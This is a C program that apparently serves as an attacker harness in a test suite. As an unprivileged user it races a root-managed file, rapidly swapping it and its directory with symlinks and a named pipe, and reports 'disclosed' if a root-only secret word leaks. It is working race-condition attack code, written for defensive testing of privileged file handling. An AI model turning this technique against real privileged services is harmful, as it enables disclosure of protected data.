/*
 * A user who wants root to be led astray: in a directory of his own he
 * exchanges, as fast as he can, a file that root manages with a link to
 * another and with a pipe, and the directory it is in with a link to the
 * other's.  Every now and then he reads what he can, and looks for a word that
 * only root may read.
 *
 *	flip UID BASE NAME WORD CONTENT
 *
 * BASE has the directory "dir" with the file NAME, the links "dir/link" (to a
 * file) and "evil" (to its directory) and the pipe "dir/pipe"; where the file
 * is missing, it is made anew, of CONTENT.  Ends with SIGTERM; exit status 3
 * and "disclosed" where the word was found.
 */
#include <stdbool.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define READ_EVERY 16

static volatile sig_atomic_t ended;

static void
on_term(int sig)
{
	(void)sig;
	ended = 1;
}

static void
file_make(int dir, const char *name, const char *content)
{
	int fd =
	    openat(dir, name, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0644);

	if (fd < 0)
		return;
	if (write(fd, content, strlen(content)) < 0)
		perror(name);
	close(fd);
}

/* True when the file contains the word. */
static bool
has_word(int dir, const char *name, const char *word)
{
	static char text[65536];
	int fd = openat(dir, name, O_RDONLY | O_NOFOLLOW | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return 0;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	text[n] = '\0';
	return strstr(text, word) != NULL;
}

int
main(int argc, char **argv)
{
	const char *name, *other[] = {"link", "pipe"};
	unsigned long n;
	int base, dir;
	uid_t uid;

	if (argc != 6)
		return 2;
	name = argv[3];
	uid = (uid_t)strtoul(argv[1], NULL, 10);
	signal(SIGTERM, on_term);
	if (setgid(uid) < 0 || setuid(uid) < 0 || chdir(argv[2]) < 0) {
		perror("flip");
		return 2;
	}
	base = open(".", O_RDONLY | O_DIRECTORY);
	dir = open("dir", O_RDONLY | O_DIRECTORY);
	for (n = 0; !ended; n++) {
		file_make(dir, name, argv[5]);
		renameat2(
		    dir, name, dir, other[n / 8 % 8 == 7], RENAME_EXCHANGE);
		if (n % 4 == 3)
			renameat2(base, "dir", base, "evil", RENAME_EXCHANGE);
		if (n % READ_EVERY == 0 &&
		    (has_word(dir, name, argv[4]) ||
			has_word(dir, "link", argv[4]) ||
			has_word(base, "out", argv[4]))) {
			puts("disclosed");
			return 3;
		}
	}
	return 0;
}
